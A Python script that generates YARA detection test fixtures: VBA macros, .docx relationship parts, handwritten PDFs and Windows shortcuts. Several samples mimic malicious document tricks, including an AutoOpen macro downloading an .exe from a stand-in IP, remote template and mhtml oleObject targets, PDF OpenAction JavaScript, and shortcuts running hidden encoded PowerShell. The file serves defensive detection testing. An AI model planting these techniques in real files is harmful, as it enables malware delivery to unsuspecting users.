#!/usr/bin/python3
# Writes the fixtures of signatures/dissected.yar into tests/data/yara/
# (committed; rerun to remake them): decompressed VBA module source, OOXML
# relationship parts, handwritten PDFs, minimal Windows shortcuts.
# SPDX-License-Identifier: Apache-2.0
import os, struct

d = os.path.dirname(os.path.abspath(__file__))


def w(name, data):
    with open(os.path.join(d, name), "wb") as f:
        f.write(data.encode() if isinstance(data, str) else data)


# VBA module source as the ole dissector yields it (vba-module children).
w("vba_autoopen_download.bas",
  'Attribute VB_Name = "Module1"\r\n'
  "Sub AutoOpen()\r\n"
  '    Set x = CreateObject("MSXML2.XMLHTTP")\r\n'
  '    x.Open "GET", "http://198.51.100.9/p.exe", False\r\n'
  "    x.Send\r\n"
  '    Set s = CreateObject("ADODB.Stream")\r\n'
  "End Sub\r\n")
w("vba_autoopen_only.bas",
  'Attribute VB_Name = "Module1"\r\n'
  "Sub AutoOpen()\r\n"
  '    MsgBox "Welcome"\r\n'
  "End Sub\r\n")
w("vba_download_no_autoexec.bas",
  'Attribute VB_Name = "Module2"\r\n'
  "Sub Update()\r\n"
  '    URLDownloadToFile 0, "http://198.51.100.9/u", "C:\\u.txt", 0, 0\r\n'
  "End Sub\r\n")

# OOXML relationship parts (archive members of a .docx).
REL = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
       '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>')
w("settings_external_template.xml.rels", REL %
  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
  'Target="http://198.51.100.9/t.dotm" TargetMode="External"/>')
w("document_msdt.xml.rels", REL %
  '<Relationship Id="rId996" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
  'Target="mhtml:http://198.51.100.9/x.html!x-usc:http://198.51.100.9/x.html" TargetMode="External"/>')
w("document_internal.xml.rels", REL %
  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>'
  '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
  'Target="https://example.org/" TargetMode="External"/>')


def pdf(*objs):
    b = b"%PDF-1.7\n"
    for i, o in enumerate(objs, 1):
        b += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    return b + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"


w("openaction_js.pdf", pdf(b"<< /Type /Catalog /OpenAction 2 0 R >>",
                           b"<< /S /JavaScript /JS (app.alert(1)) >>"))
w("openaction_js_hex.pdf", pdf(b"<< /Type /Catalog /Open#41ction 2 0 R >>",
                               b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"))
w("js_no_openaction.pdf", pdf(b"<< /Type /Catalog /Names << /JavaScript 2 0 R >> >>",
                              b"<< /S /JavaScript /JS (app.alert(1)) >>"))
w("openaction_page.pdf", pdf(b"<< /Type /Catalog /OpenAction [3 0 R /Fit] >>",
                             b"<< /Type /Pages >>", b"<< /Type /Page >>"))


def lnk(args):
    # ShellLinkHeader (76 bytes): HasArguments | IsUnicode, then the
    # COMMAND_LINE_ARGUMENTS StringData.
    h = struct.pack("<I16sI", 0x4C, bytes.fromhex("0114020000000000c000000000000046"),
                    0x20 | 0x80)
    h += b"\0" * (76 - len(h))
    s = args.encode("utf-16le")
    return h + struct.pack("<H", len(args)) + s + b"\0\0\0\0"


w("powershell_enc.lnk", lnk("-nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="))
w("powershell_enc_short.lnk", lnk("/c powershell.exe -enc SQBFAFgA"))
w("plain_args.lnk", lnk("--profile-directory=Default"))
w("powershell_enc_text.txt", "Run: powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=\n")
